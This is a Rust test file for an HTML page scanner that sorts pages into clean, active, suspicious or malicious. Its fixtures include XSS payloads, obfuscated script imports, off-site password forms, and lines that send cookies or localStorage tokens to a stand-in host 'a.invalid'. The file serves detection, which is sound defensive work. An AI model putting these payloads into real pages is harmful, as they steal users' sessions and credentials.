//! Is what acts in a page told from what only looks like it?

use super::check;
use crate::{Budget, Limits, Notes, Severity};

fn worst(text: &str) -> Option<Severity> {
    let mut notes = Notes::default();
    check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
    notes.worst()
}

#[test]
fn quiet_pages_are_clean() {
    for page in [
        "<p>hello</p>",
        "<!doctype html><table border=1><tr><td>onclick=</td></tr></table><style>td{padding:2px}</style>",
        "<img alt=plot src='data:image/png;base64,iVBORw0KGgo='>",
        "<a href='https://docs.invalid/page?x=1#a'>docs</a><a href=mailto:x@y.invalid>m</a>",
        "<meta http-equiv=refresh content='0; url=index.html'>",
        "<meta http-equiv=refresh content='30'>",
        "<meta http-equiv=refresh content='0; a/b.html?url=https://a.invalid'>",
        "<p style='width:9px\\9;background:url(#a)'><img src='file:///C:/plot.png'>",
        "<script type='application/json'>{\"a\": \"document.cookie fetch('http://x')\"}</script>",
        "<textarea><script>alert(1)</script></textarea>",
        "<style>a[href^=\"javascript:\"]:after{content:\"\"}div.output_javascript:empty{padding:0}</style>",
        "<p>a < b and <3</p><!-- comment -->",
    ] {
        assert_eq!(worst(page), None, "{page}");
    }
}

#[test]
fn charts_are_active() {
    for page in [
        "<canvas id=c></canvas><script>document.getElementById('c').getContext('2d').fillRect(0,0,9,9)</script>",
        "<script src='https://cdn.plot.ly/plotly-2.32.0.min.js'></script><div id=p></div><script>Plotly.newPlot('p',[{y:[1,2]}])</script>",
        "<a href='javascript:void(0)' onclick='toggle(this)'>more</a>",
        "<body onload='init()'><p>x",
        "<img src=https://host.invalid/logo.png>",
        "<script type=importmap>{\"imports\": {\"a\": \"./a.js\", \"three\": \"https://cdn.jsdelivr.net/npm/three.js\"}}</script><script type=module>import * as a from 'three'</script>",
        "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"next.html\", \"https://host.invalid/docs/next.html\"]}]}</script>",
        "<script type=module>import a from \"https://cdn.plot.ly/a.js\"; x.from('https://host.invalid/'); let s = \"see https://host.invalid/\"</script>",
        "<script type=module>import {a} from 'https://www.unpkg.com/dt_for_itables/dt_bundle.js'</script>",
        "<script>t = \"taken from 'https://host.invalid/'\"</script>",
        "<link rel=modulepreload href=a.js><link rel=preload as=script href=https://cdn.plot.ly/a.js>",
        "<link rel=preload as=font href=https://host.invalid/a.woff2><link rel=preconnect href=https://host.invalid><link rel=dns-prefetch href=//host.invalid>",
        "<img src=a.png onerror=\"this.style.display='none'\">",
    ] {
        assert_eq!(worst(page), Some(Severity::Active), "{page}");
    }
}

#[test]
fn pages_that_lead_away_are_suspicious() {
    for page in [
        "<base href='https://a.invalid/'><form><input type=password></form>",
        "<meta http-equiv=refresh content='0;url=https://a.invalid/login'>",
        "<base href='//a.invalid/'><script>fetch('a',{body:document.cookie})</script>",
        "<meta http-equiv=refresh content='0;https://a.invalid/login'>",
        "<meta http-equiv=refresh content='0 https://a.invalid/login'>",
        "<meta http-equiv=refresh content=',URL = \"https://a.invalid\" x'>",
        "<meta http-equiv=refresh content='0;https://a.invalid/?url=/ok'>",
        "<meta http-equiv=refresh content='0;url=search-ms:query=a'>",
        "<img src='file://a.invalid/s/x.png'>",
        "<p style='background:\\75 RL(file://a.invalid/s/x.png)'>",
        "<p style='background:URL(https://a.invalid/?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzGZwvtaPM36s0R)'>",
        "<script src='https://polyfill.io/v3/polyfill.min.js'></script>",
        "<svg><script href='https://a.invalid/x.js'></script></svg>",
        "<META HTTP-EQUIV='Refresh' CONTENT=\"5; URL='//a.invalid'\">",
        "<script>alert(1)</script><!--",
        "<iframe src='search-ms:query=a&crumb=location:b'></iframe>",
        "<a href='MS-OfficeCmd:{}'>open</a>",
        "<a href='&#106;ava&#x09;script:alert(1)'>open</a>",
        "<a href='java\nscript:alert(1)'>open</a>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<iframe src=https://a.invalid></iframe>",
        "<form method=post action=//a.invalid><input name=q></form>",
        "<script src=//a.invalid/x.js></script>",
        "<script type=importmap>{\"imports\": {\"a\": \"https:\\/\\/a.invalid/x.js\"}}</script>",
        "<script type=importmap>{\"imports\": {\"a\": \"https:\\u002f/a.invalid/x.js\"}, \"b\": \"\\ud800\"}</script>",
        "<script type=' ImportMap '>{\"scopes\": {\"/b/\": {\"a\": \"//a.invalid/x.js\"}}}</script>",
        "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"https://a.invalid/?q=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzGZwvtaPM36s0R\"]}]}</script>",
        "<script type=module>import \"https://a.invalid/x.js\"</script>",
        "<script type=module>import{a as b}from/* */'https://a.invalid/x.js'</script>",
        "<script type=module>export * from // x\n '\\x68ttps\\u003a\\u{2f}/a.invalid/x.js'</script>",
        "<svg><script type=module>import 'https://a.invalid/x.js'</script></svg>",
        "<link rel=modulepreload href=https://a.invalid/x.js>",
        "<script src=https://cdn.jsdelivr.net:x@a.invalid/x.js></script>",
        "<script type=module>import\u{feff}'https://a.invalid/x.js'</script>",
        "<script type=module>import/**//**//**//**//**//**//**//**//**//**//**//**//**//**//**//**//**/'https://a.invalid/x.js'</script>",
        "<link rel='preload' as=script href=//a.invalid/x.js>",
        "<img src='https://a.invalid/p?d=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzG'>",
        "<button formaction='https://a.invalid/'>go</button>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    ] {
        assert_eq!(worst(page), Some(Severity::Suspicious), "{page}");
    }
}

#[test]
fn attacks_are_malicious() {
    for page in [
        "<img src=x onerror=\"fetch('https://a.invalid/'+localStorage.token)\">",
        "<form method=post action='https://a.invalid/p'><input type=password name=p></form>",
        "<form><input type=&#112;assword><button formaction=https://a.invalid>",
        "<script>new Image().src='https://a.invalid/c?'+document.cookie</script>",
        "<script>navigator.serviceWorker.register('/files/sw.js',{scope:'/'})</script>",
        "<script>eval(unescape('%61'));window['ev'+'al'](atob('YQ=='))</script>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe src=data:text/html;base64,PHNjcmlwdD4=></iframe>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<style>p{background:url( \"javascript:x()\")}</style>",
        "<style>@import 'javascript:x()'</style>",
        "<style>input[value^=a]{background:url(https://a.invalid/a)}</style>",
    ] {
        assert_eq!(worst(page), Some(Severity::Malicious), "{page}");
    }
}

#[test]
fn cut_pages_do_not_panic() {
    let page = "<svg><a href='data:text/html;base64,é'><style>é<img onerror=x></style><iframe srcdoc='&lt;é'><meta http-equiv=refresh content='0;urlé'><!--";
    for (at, _) in page.char_indices() {
        worst(&page[at..]);
        worst(&page[..at]);
    }
}
